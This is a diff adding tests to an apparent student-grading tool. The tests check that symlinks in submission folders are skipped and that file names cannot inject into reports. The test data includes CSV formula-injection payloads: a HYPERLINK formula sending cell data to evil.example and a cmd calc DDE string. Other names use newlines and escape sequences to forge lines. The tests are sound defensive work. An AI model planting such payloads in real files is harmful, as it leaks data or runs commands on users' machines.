@@ -54,3 +54,52 @@ def test_seccomp_alone_keeps_signals_off_the_process_group():
     except (OSError, ValueError):
         pass
     assert seen == "refused refused sibling alive", (done.stdout, done.stderr)
+
+
+def test_links_out_of_a_submissions_folder_are_not_followed(tmp_path):
+    """A student's upload unpacked as a link (zip and tar keep links) to a reference solution, or
+    to any file of the grader's machine, is not graded: every link in a folder is listed as
+    skipped (one inside the folder too: its file is graded once, at its own place; one that loops
+    back to the folder is not walked)."""
+    from pathlib import Path
+
+    from attnlab.grading.submissions import collect
+
+    folder = tmp_path / "submissions"
+    folder.mkdir()
+    (folder / "alice.py").write_text("x = 1\n")
+    solution = Path(ROOT) / "exercises" / "solutions" / "ex_stable_softmax.py"
+    (folder / "mallory.py").symlink_to(solution)
+    (folder / "mallory_dir").symlink_to(solution.parent)
+    (folder / "loop").symlink_to(folder)
+    (folder / "again.py").symlink_to(folder / "alice.py")
+    files, skipped = collect([str(folder)])
+    assert [f.name for f in files] == ["alice.py"]
+    assert {Path(s.path).name: s.reason for s in skipped} == {
+        "mallory.py": "skip.link", "mallory_dir": "skip.link", "loop": "skip.link",
+        "again.py": "skip.link"}
+
+
+def test_file_names_cannot_inject_into_reports():
+    """A file name is the student's text too: in the CSV no cell may start a formula, and in the
+    text report no line may be forged (newline, carriage return, escape sequences)."""
+    import csv
+    import io
+
+    import exercises
+    from attnlab.grading.model import Outcome
+    from attnlab.grading.report import SubmissionReport, to_csv, to_text
+    from attnlab.grading.submissions import Skipped
+
+    e = exercises.BY_ID["ex_omega"]
+    names = ['=HYPERLINK("http://evil.example/?"&A1,"open").py', "+1+cmd|' /C calc'!A0.py",
+             "@SUM(1).py", "-2+3.py", "\tx.py", "bob.py\nalice.py: 99 / 99\n.py",
+             "eve\r\x1b[2Kcarol.py: 99 / 99.py"]
+    reports = [SubmissionReport(n, [(e, Outcome("failed", 0, e.points, "feedback.raised",
+                                                {"error": "x"}))]) for n in names]
+    rows = list(csv.reader(io.StringIO(to_csv(reports))))[1:]
+    assert len(rows) == len(names)
+    assert all(row[0][:1] not in "=+-@\t\r" for row in rows), [r[0] for r in rows]
+    text = to_text(reports, skipped=[Skipped("dave.py\nalice.py: 99 / 99", "skip.suffix")])
+    assert not any(c in text for c in "\r\x1b"), text
+    assert not any(line.startswith(("alice.py", "carol.py")) for line in text.split("\n")), text
